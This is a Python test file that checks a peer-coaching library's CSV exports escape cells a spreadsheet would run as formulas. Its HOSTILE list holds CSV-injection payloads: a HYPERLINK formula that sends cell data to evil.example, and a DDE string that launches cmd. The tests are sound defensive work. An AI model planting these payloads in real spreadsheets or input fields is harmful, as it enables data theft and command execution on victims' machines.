"""CSV files as a spreadsheet opens them: words that would be formulas are written as text."""

from __future__ import annotations

import base64
import datetime as dt
import io
import re

import pandas as pd
import pytest

from peercoach_lib import partnerships, spreadsheets, transfer
from peercoach_lib.apps.cohort_app import CohortDashboardApp
from peercoach_lib.model import Person

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "\tTAB",
]


def test_a_cell_a_spreadsheet_would_run_is_text_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {"name": [*HOSTILE, "Zo\u00eb M\u00fcller", None], "level": [-1, 0, 2, -2, 1, 3, -1]}
    )
    data = spreadsheets.csv_bytes(frame)
    assert data.startswith("\ufeff".encode())
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert back["name"].tolist() == [*("'" + h for h in HOSTILE), "Zo\u00eb M\u00fcller", ""]
    assert back["level"].tolist() == [-1, 0, 2, -2, 1, 3, -1]
    assert frame["name"][0] == HOSTILE[0]  # the frame given is left as it was
    assert spreadsheets.as_text(pd.DataFrame(columns=["=x"])).columns.tolist() == ["'=x"]
    assert spreadsheets.as_text(pd.DataFrame({"a": ["\rCR"]}))["a"][0] == "'\rCR"
    # A column of categories keeps its cells (a marked one is no category of the column's).
    kinds = pd.DataFrame({"name": pd.Categorical(["=HYPERLINK(1)", "b"])})
    assert spreadsheets.as_text(kinds)["name"].tolist() == ["'=HYPERLINK(1)", "b"]


@pytest.mark.parametrize("name", HOSTILE[:2])
def test_a_name_typed_as_a_formula_reaches_the_dashboard_csv_and_the_export_as_text(
    store, pair, tmp_path, name
):
    today = dt.date(2026, 3, 2)
    cohort_id = pair["cohort"].id
    odd = store.save(Person(name=name, cohort_id=cohort_id))
    other = store.save(Person(name="Plain Name", cohort_id=cohort_id))
    partnerships.pair(store, odd.id, other.id, on=today, cohort_id=cohort_id)
    app = CohortDashboardApp(store, cohort_id=cohort_id, today=today)
    (data,) = re.findall(
        r'download="[^"]+-pairs\.csv" href="data:text/csv;base64,([^"]+)"', app.downloads.value
    )
    text = base64.b64decode(data).decode("utf-8-sig")
    assert name.split("(")[0] in text
    cells = pd.read_csv(io.StringIO(text), dtype=str).to_numpy().ravel()
    assert not any(isinstance(c, str) and c.startswith(("=", "@")) for c in cells)
    transfer.export_csv(store, tmp_path / "csv")
    persons = pd.read_csv(tmp_path / "csv" / "persons.csv", encoding="utf-8-sig")
    assert "'" + name in persons["name"].tolist()
